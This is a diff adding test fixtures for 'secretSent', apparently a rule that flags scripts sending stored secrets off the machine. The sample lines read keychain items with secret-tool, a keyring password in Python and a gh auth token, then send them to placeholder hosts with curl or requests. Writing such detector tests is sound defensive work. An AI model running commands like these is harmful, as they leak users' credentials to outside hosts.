@@ -4,6 +4,22 @@ import { secretSent } from './secret-sent.ts';
 ruleCases(secretSent, {
   hits: [
     {
+      name: 'a sign-in with an item of a keychain, rated medium',
+      path: 'a.sh',
+      text: 'curl -u "me:$(secret-tool lookup service nextcloud user me)" https://cloud.home.test/dav\n',
+      severity: 'medium',
+    },
+    {
+      name: 'an item for another service',
+      path: 'a.sh',
+      text: 'curl -u "me:$(secret-tool lookup service github user me)" https://cloud.home.test/dav\n',
+    },
+    {
+      name: 'an item in the body of something else',
+      path: 'a.py',
+      text: 'import keyring, requests\nrequests.post("https://up.acme.test/in", data={"x": keyring.get_password("library", "pin")})\n',
+    },
+    {
       name: 'a token of a signed-in program in an address',
       path: 'a.sh',
       text: 'T=$(gh auth token)\ncurl -s "https://up.acme.test/x?t=$T"\n',
